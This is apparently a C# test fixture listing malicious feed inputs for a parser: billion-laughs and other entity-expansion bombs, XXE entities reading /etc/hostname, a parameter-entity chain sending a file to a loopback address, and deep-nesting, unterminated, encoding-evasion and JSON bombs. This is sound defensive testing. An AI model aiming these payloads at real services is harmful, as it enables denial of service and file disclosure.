using System.Text;

namespace Digest.Tests.Stories;

/// <summary>XML that is small on the wire and is meant to be large, slow or far away once it is read.</summary>
/// <param name="Name">What it is known by.</param>
/// <param name="Bytes">What the feed's server sends.</param>
public sealed record Bomb(string Name, byte[] Bytes)
{
    private const int Megabyte = 1_000_000;

    public static IReadOnlyList<Bomb> All { get; } = [.. Entities(), .. Elsewhere(), .. Heaps(), .. Unfinished(), .. Encoded(), .. Json()];

    public override string ToString() => Name;

    private static IEnumerable<Bomb> Entities()
    {
        yield return Declares("billion laughs", Laughs());
        yield return Declares("laughs of parameter entities", string.Concat(Enumerable.Range(1, 9).Select(level => $"<!ENTITY % p{level} '{Repeat($"%p{level - 1};", 10)}'>")) + "%p9;");
        yield return Declares("quadratic blow-up", $"<!ENTITY a '{new string('a', 50_000)}'>", Repeat("&a;", 50_000));
        yield return Declares("quadratic blow-up of short entities", $"<!ENTITY a '{new string('a', 500)}'>", Repeat("&a;", 300_000));
        yield return Declares("entities that hold each other", "<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;");
        yield return Declares("an entity that holds itself", "<!ENTITY a '&a;&a;'>", "&a;");
        yield return Declares("an entity that is a reference to a reference", "<!ENTITY a '&#38;a;&#38;a;'>", "&a;");
        yield return Declares("laughs in an attribute", Laughs(), "", "<item t='&e9;'/>");
        yield return Declares("a default of an attribute", $"{Laughs()}<!ATTLIST item t CDATA '&e9;'>");
        yield return Declares("entities without number", string.Concat(Enumerable.Range(0, 80_000).Select(number => $"<!ENTITY e{number} 'x'>")), "&e1;");
        yield return Declares("a document type of megabytes", $"<!-- {new string('x', 2 * Megabyte)} -->");
        yield return Declares("an entity of megabytes", $"<!ENTITY a '{new string('x', 2 * Megabyte)}'>", "&a;");
        yield return Declares("conditional sections", Repeat("<![INCLUDE[", 20_000) + Repeat("]]>", 20_000));
        yield return Declares("notations and elements without number", Repeat("<!ELEMENT a (b|(c,(d|e)*)+)*>", 3000));
    }

    private static IEnumerable<Bomb> Elsewhere()
    {
        foreach (var address in new[]
        {
            "file:///etc/hostname", "file:///dev/zero", "http://127.0.0.1:9/x", "https://127.0.0.1:9/x", "ftp://127.0.0.1:9/x", "php://filter/read=convert.base64-encode/resource=/etc/hostname",
            "expect://id", "jar:http://127.0.0.1:9/x!/y", "netdoc:/etc/hostname", "gopher://127.0.0.1:9/x", "data:text/xml,x", "\\\\127.0.0.1\\share\\x", "../../../etc/hostname",
        })
        {
            yield return Declares($"an entity at {address}", $"<!ENTITY a SYSTEM '{address}'>", "&a;");
            yield return Declares($"a parameter entity at {address}", $"<!ENTITY % a SYSTEM '{address}'> %a;");
        }
        yield return Declares("a public entity", "<!ENTITY a PUBLIC 'x' 'http://127.0.0.1:9/'>", "&a;");
        yield return Declares("an entity that sends a file away", "<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\">%e;%s;");
        yield return Of("a document type that lies elsewhere", "<!DOCTYPE rss SYSTEM 'http://127.0.0.1:9/x.dtd'><rss><channel><title>T</title></channel></rss>");
        yield return Of("XInclude", "<rss xmlns:i='http://www.w3.org/2001/XInclude'><channel><title><i:include href='file:///etc/hostname' parse='text'/></title></channel></rss>");
        yield return Of("a style sheet", "<?xml-stylesheet type='text/xsl' href='http://127.0.0.1:9/x.xsl'?><rss><channel><title>T</title></channel></rss>");
        yield return Of("a schema", "<rss xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:noNamespaceSchemaLocation='http://127.0.0.1:9/x.xsd'><channel/></rss>");
    }

    private static IEnumerable<Bomb> Heaps()
    {
        yield return Item("elements in elements", Repeat("<a>", 400_000));
        yield return Item("elements in elements, all closed", Repeat("<a>", 150_000) + Repeat("</a>", 150_000));
        yield return Item("elements of megabytes", $"<{new string('a', Megabyte)}>");
        yield return Item("a million attributes", $"<a{Repeat(" a=b", Megabyte)}>");
        yield return Item("attributes of different names", $"<a{string.Concat(Enumerable.Range(0, 100_000).Select(number => $" a{number}=''"))}>");
        yield return Item("an attribute of megabytes", $"<a a='{new string('x', 2 * Megabyte)}'>");
        yield return Item("the name of an attribute of megabytes", $"<a {new string('x', 2 * Megabyte)}=''>");
        yield return Item("namespaces without number", $"<a{string.Concat(Enumerable.Range(0, 50_000).Select(number => $" xmlns:n{number}='u:{number}'"))}>");
        yield return Item("namespaces on every level", string.Concat(Enumerable.Range(0, 20_000).Select(number => $"<n{number}:a xmlns:n{number}='u:{number}' n{number}:b=''>")));
        yield return Item("prefixes that nobody declares", string.Concat(Enumerable.Range(0, 10_000).Select(number => $"<p{number}:a/>")));
        yield return Item("instructions without number", Repeat("<?a b?>", 300_000));
        yield return Item("comments without number", Repeat("<!---->", 300_000));
        yield return Item("a comment of megabytes", $"<!--{new string('-', 2 * Megabyte)}-->");
        yield return Item("CDATA sections in CDATA sections", Repeat("<![CDATA[", 200_000) + Repeat("]]>", 200_000));
        yield return Item("references without number", Repeat("&#65;", 300_000));
        yield return Item("a reference of megabytes", $"&#{new string('9', 2 * Megabyte)};");
        yield return Item("unknown entities without number", Repeat("&nosuch;", 200_000));
        yield return Item("ends of nothing", Repeat("</a>", 400_000));
        yield return Item("bases on every level", string.Concat(Enumerable.Range(0, 120).Select(number => $"<a xml:base='https://t.example/{number}/'>")) + Repeat("<link href='javascript:x'/>", 3000));
        yield return Item("an id of megabytes", $"<guid>{new string('x', Megabyte)}</guid>");
    }

    private static IEnumerable<Bomb> Unfinished()
    {
        foreach (var (name, opening) in new[] { ("comment", "<!--"), ("CDATA section", "<![CDATA["), ("instruction", "<?x "), ("tag", "<a "), ("attribute", "<a a=\""), ("end tag", "</a"), ("declaration", "<!x "), ("reference", "&#") })
            yield return Item($"a {name} that never ends", opening + new string('x', 2 * Megabyte));
        foreach (var (name, opening) in new[] { ("comments", "<!--"), ("CDATA sections", "<![CDATA["), ("instructions", "<?"), ("declarations", "<!"), ("tags", "<a "), ("attributes", "<a a='"), ("document types", "<!DOCTYPE x [") })
            yield return Item($"{name} that never end", Repeat(opening, 30_000));
        yield return Of("a document type that never ends", "<!DOCTYPE rss [" + Repeat("<!ENTITY a 'b'>", 100_000));
    }

    private static IEnumerable<Bomb> Encoded()
    {
        var laughs = Encoding.UTF8.GetString(Declares("", Laughs()).Bytes);
        foreach (var encoding in new Encoding[] { new UnicodeEncoding(false, true), new UnicodeEncoding(true, true), new UTF32Encoding(false, true), new UTF32Encoding(true, true), new UTF8Encoding(true) })
        {
            yield return new Bomb($"laughs in {encoding.WebName} with a mark", [.. encoding.GetPreamble(), .. encoding.GetBytes(laughs)]);
            yield return new Bomb($"laughs in {encoding.WebName} without a mark", encoding.GetBytes(laughs));
        }
        yield return Of("laughs in UTF-7", "<?xml version='1.0' encoding='utf-7'?>" + laughs.Replace("<", "+ADw-", StringComparison.Ordinal).Replace("&", "+ACY-", StringComparison.Ordinal));
        yield return Of("laughs that say EBCDIC", "<?xml version='1.0' encoding='IBM037'?>" + laughs);
    }

    private static IEnumerable<Bomb> Json()
    {
        yield return Of("JSON in JSON", Repeat("{\"items\":[", 200_000));
        yield return Of("lists in lists of JSON", "{\"items\":" + Repeat("[", Megabyte));
        yield return Of("a number of megabytes in JSON", $$"""{"items":[{"id":{{new string('9', Megabyte)}},"date_published":1e{{new string('9', 1000)}}}]}""");
        yield return Of("one name a hundred thousand times in JSON", $$"""{"items":[{{{Repeat("\"id\":1,", 100_000)}}"id":2}]}""");
        yield return Of("halves of characters in JSON", $$"""{"items":[{"title":"{{Repeat("\\ud800", 20_000)}}"}]}""");
        yield return Of("tags without number in JSON", $$"""{"items":[{"tags":["a"{{Repeat(",\"a\"", 50_000)}}]}]}""");
    }

    private static string Laughs() => "<!ENTITY e0 'ha'>" + string.Concat(Enumerable.Range(1, 9).Select(level => $"<!ENTITY e{level} '{Repeat($"&e{level - 1};", 10)}'>"));

    private static Bomb Declares(string name, string declarations, string title = "&e9;", string item = "") =>
        Of(name, $"<?xml version='1.0'?><!DOCTYPE rss [{declarations}]><rss><channel><title>{title}</title>{item}</channel></rss>");

    private static Bomb Item(string name, string inside) => Of(name, $"<rss><channel><title>T</title><item>{inside}");

    private static Bomb Of(string name, string text) => new(name, Encoding.UTF8.GetBytes(text));

    private static string Repeat(string part, int times) => string.Concat(Enumerable.Repeat(part, times));
}
